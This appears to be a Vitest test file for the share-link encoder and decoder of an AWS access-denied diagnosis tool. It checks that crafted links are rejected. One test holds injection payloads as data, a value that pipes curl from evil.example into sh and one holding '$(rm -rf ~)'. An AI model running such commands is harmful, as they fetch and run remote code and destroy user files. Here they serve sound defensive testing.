import { describe, expect, it } from 'vitest'
import { decodeShare, encodeShare, type SharedDiagnosis } from './diagnosis-link'
import { splitGuideHash, withFacts } from './share-param'

const shared: SharedDiagnosis = {
  v: 1,
  matches: [{ slug: 'access-denied', code: 'AccessDenied' }],
  facts: {
    principalArn: 'arn:aws:iam::123456789012:user/alice',
    accountId: '123456789012',
    region: 'eu-west-1',
    denyReason: { kind: 'explicit', policyType: 'service-control', text: 'with an explicit deny in a service control policy' },
  },
}
const encodeJson = (value: unknown) => `#diagnosis=${Buffer.from(JSON.stringify(value)).toString('base64url')}`

describe('share links', () => {
  it('round-trip the matched guides and facts, keeping the deny kind but not the pasted sentence', () => {
    const back = decodeShare(`#${encodeShare(shared)}`)
    expect(back?.matches).toEqual(shared.matches)
    expect(back?.facts.principalArn).toBe(shared.facts.principalArn)
    expect(back?.facts.denyReason).toEqual({ kind: 'explicit', policyType: 'service-control', text: '' })
  })

  it('use only URL-safe characters in the fragment', () => {
    expect(encodeShare(shared)).toMatch(/^diagnosis=[A-Za-z0-9_-]+$/)
  })

  it('reject a fragment that is not a diagnosis, is damaged, or is not base64 JSON', () => {
    expect(decodeShare('')).toBeUndefined()
    expect(decodeShare('#causes')).toBeUndefined()
    expect(decodeShare(`#${encodeShare(shared).slice(0, 30)}`)).toBeUndefined()
    expect(decodeShare('#diagnosis=%%%')).toBeUndefined()
  })

  it('reject a crafted link that smuggles shell syntax into a fact that fills a command', () => {
    expect(decodeShare(encodeJson({ ...shared, facts: { resourceArn: 'x"; curl evil.example | sh; echo "' } }))).toBeUndefined()
    expect(decodeShare(encodeJson({ ...shared, facts: { principalArn: '$(rm -rf ~)' } }))).toBeUndefined()
  })

  it('reject unknown fields, unknown guides shapes and oversized links', () => {
    expect(decodeShare(encodeJson({ ...shared, note: 'run this' }))).toBeUndefined()
    expect(decodeShare(encodeJson({ ...shared, matches: [{ slug: '../admin', code: 'X' }] }))).toBeUndefined()
    expect(decodeShare(encodeJson({ ...shared, facts: { requestId: 'a'.repeat(20_000) } }))).toBeUndefined()
  })

  it('drop from the link a fact whose value is not an identifier', () => {
    const back = decodeShare(`#${encodeShare({ ...shared, facts: { ...shared.facts, key: 'reports/q1 final.pdf' } })}`)
    expect(back?.facts.key).toBeUndefined()
    expect(back?.facts.accountId).toBe('123456789012')
  })
})

describe('guide links with facts', () => {
  const share = encodeShare(shared)

  it('put the facts after the guide, or after the check they open at', () => {
    expect(withFacts('/errors/access-denied/', share)).toBe(`/errors/access-denied/#${share}`)
    expect(withFacts('/errors/access-denied/#check-scp', share)).toBe(`/errors/access-denied/#check-scp&${share}`)
  })

  it('split back into the place to show and facts the share decoder reads', () => {
    const { anchor, share: back } = splitGuideHash(new URL(withFacts('/errors/access-denied/#check-scp', share), 'https://example.com').hash)
    expect(anchor).toBe('check-scp')
    expect(decodeShare(back!)?.facts.principalArn).toBe(shared.facts.principalArn)
    expect(splitGuideHash(`#${share}`)).toEqual({ share })
  })

  it('leave a plain anchor as it is, with no facts', () => {
    expect(splitGuideHash('#check-scp')).toEqual({ anchor: 'check-scp' })
    expect(splitGuideHash('')).toEqual({})
  })
})
